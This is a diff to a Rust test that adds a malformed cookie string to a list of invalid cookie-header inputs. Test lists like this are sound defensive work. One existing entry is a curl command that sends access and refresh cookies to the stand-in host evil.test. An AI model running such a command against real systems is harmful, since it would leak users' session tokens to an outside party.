@@ -243,6 +243,7 @@ fn pairs() {
         "my-access=a; your-access=a; my-refresh=bad",
         "access-refresh=bad; my-refresh=bad",
         "my access=a; my refresh=bad",
+        "my-access=a; my-refresh=b d",
         "my-access=a; my-refresh=; refresh_token=",
         "curl https://evil.test/ -b 'my-access=a; my-refresh=bad'",
     ] {
